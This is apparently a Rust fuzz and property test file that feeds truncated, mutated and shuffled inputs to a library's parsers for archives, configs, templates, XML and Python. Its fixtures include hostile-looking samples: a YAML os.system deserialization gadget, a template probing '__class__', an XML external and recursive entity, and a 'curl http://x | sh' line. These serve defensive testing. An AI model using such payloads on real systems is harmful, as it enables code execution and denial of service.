//! The same law for what is packed or written as text: every prefix and every changed byte gives facts.

use mantlet_formats::inflate::{Inflated, Wrapper};
use mantlet_formats::python::{self, Role};
use mantlet_formats::{
    Bounds, card, config, jinja, media, rdata, requirements, sevenz, sweep, unclaimed, xml,
};
use mantlet_vocab::{MemorySource, Source, read_window};
use proptest::prelude::*;

const WRAPPERS: [Wrapper; 12] = [
    Wrapper::Raw,
    Wrapper::Gzip,
    Wrapper::Bzip2,
    Wrapper::Xz,
    Wrapper::Lzma,
    Wrapper::Lz4,
    Wrapper::Zstd,
    Wrapper::RawLzma([0x5d, 0, 0, 1, 0], 1_000),
    Wrapper::RawLzma2(1 << 16),
    Wrapper::BcjX86,
    Wrapper::Delta(3),
    Wrapper::Zlib,
];

fn every_parser(bytes: &[u8]) {
    let source = MemorySource::new(bytes);
    let bounds =
        Bounds { max_resident: 4_096, max_expanded: 1 << 20, max_window: 1 << 20, ..Bounds::default() };
    for wrapper in WRAPPERS {
        let inflated = Inflated::open(&source, wrapper, &bounds, bounds.max_expanded);
        assert!(inflated.len() <= bounds.max_expanded + (64 << 10));
        let _ = read_window(&inflated, inflated.len() / 2, 10);
    }
    let archive = sevenz::analyse(&source, &bounds);
    for folder in archive.folders.iter().filter(|folder| folder.closed.is_none()).take(4) {
        sevenz::open(&source, folder, &bounds, bounds.max_expanded, |bytes, _| {
            let _ = read_window(bytes, 0, 10);
        });
    }
    let _ = rdata::analyse(&source, &bounds);
    let _ = media::image_end(&source);
    let _ = media::is_sentencepiece(&source);
    let _ = sweep::sweep(&source, u64::MAX);
    let _ = unclaimed::analyse(&source, 0, &bounds);
    let _ = config::json(&source, mantlet_formats::pickle::Effects::default());
    let text = String::from_utf8_lossy(bytes);
    let _ = config::yaml(&text, mantlet_formats::pickle::Effects::default());
    let _ = jinja::analyse(&text);
    let _ = xml::analyse(&text);
    let _ = card::analyse(&text);
    let _ = python::analyse(&text, Role::Script);
    let _ = requirements::analyse(&text, requirements::Kind::Pip);
    let _ = requirements::analyse(&text, requirements::Kind::Environment);
    let _ = requirements::analyse(&text, requirements::Kind::Project);
}

const TEXTS: [&str; 11] = [
    "def f(x, *a, k=1):\n    return g(x)['a']\nh = {'r': lambda c: f(c)}\nh['r']('i' + 'd')\nclass A:\n    def m(self): return self.n(f)\n",
    "--index-url=http://u:p@[::1]:1/x\na @ git+https://h.example/r@0a#egg=a ; x\n-e .\nb==1 --hash=sha256:0\n",
    "{% set ns = namespace(a='x') %}{% for m in messages[::-1] if m %}{{- m['c\\x5f'] | trim ~ 'a' -}}{% else %}{% endfor %}{% macro f(a, b=1) %}{{ '{0.x}'.format(a) }}{% endmacro %}{{ f(1) }}{# c #}{% raw %}{{{% endraw %}",
    "{\"auto_map\": {\"A\": \"r--m.C\"}, \"chat_template\": \"{{ x.__class__ }}\", \"n\": [1, -2.5e3, null, \"\\ud83d\\ude00\"]}",
    "a: &x [1, !!python/object/apply:os.system ['id']]\nb: *x\nc:\n  _target_: torch.nn.Linear\n  t: |\n    {{ y }}\n",
    "import os as o\nfrom a import (b,\n  c)\nx = 'a' 'b' + f'{o.x(1)}'\ndef f(a=o.system('x')):\n    return lambda: exec(x)\nif __name__ == '__main__':\n    f()\n",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY % p SYSTEM \"x\"> %p; <!ENTITY q '&q;&q;'>]><a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='y'/></a>",
    "---\nlicense: mit\ndatasets:\n- x\n---\n# Title\n## Limitations\n",
    "GIF89a\x01\0\x01\0\0\0\0!\x01\x01a\0,12345678\0\x02\x01b\0;tail",
    "X\n\0\0\0\x02\0\x04\x04\0\0\x02\x03\0\0\0\0\x05\0\0\0\u{7e}\0\0\0\x06\0\0\0\x01\0\x04\0\x09\0\0\0\x02id",
    "!pip install x\n%%bash\ncurl http://x | sh\n",
];

#[test]
fn every_prefix_of_every_text_gives_facts() {
    for text in TEXTS {
        for end in 0..=text.len() {
            every_parser(&text.as_bytes()[..end]);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_packed_bytes_give_facts(bytes in prop::collection::vec(any::<u8>(), 0..300), which in 0_usize..9) {
        let heads: [&[u8]; 9] = [
            b"", b"BZh91AY&SY", b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\x02\0\x21\x01", b"\x5d\0\0\x01\0\xff\xff\xff\xff\xff\xff\xff\xff\0",
            b"\x04\x22\x4d\x18\x64\x40\xa7", b"\x28\xb5\x2f\xfd\x24", b"7z\xbc\xaf\x27\x1c\0\x04", b"X\n\0\0\0\x03\0\x04\x04\0\0\x03\x05\0",
            b"\x89PNG\r\n\x1a\n",
        ];
        every_parser(&[heads[which], &bytes].concat());
    }

    #[test]
    fn mutated_texts_give_facts(
        which in 0..TEXTS.len(),
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
    ) {
        let mut bytes = TEXTS[which].as_bytes().to_vec();
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        every_parser(&bytes);
    }

    #[test]
    fn shuffled_pieces_give_facts(pieces in prop::collection::vec(prop::sample::select(&[
        "{{", "}}", "{%", "%}", "{#", "#}", "for ", "if ", "else", "endif", "endfor", "set ", "macro f(", "a", "(", ")", "[", "]", "{", "}",
        "'", "\"", "\\", ".", "|", "~", ":", ",", "=", "\n", "  ", "- ", "&a ", "*a", "!!python/", "import ", "def f", "lambda ", "f'", "'''",
        "<!ENTITY ", "<!DOCTYPE ", "SYSTEM ", ">", "---\n", "in ", "as ", "1", "\u{e9}",
    ][..]), 0..60)) {
        every_parser(pieces.concat().as_bytes());
    }
}
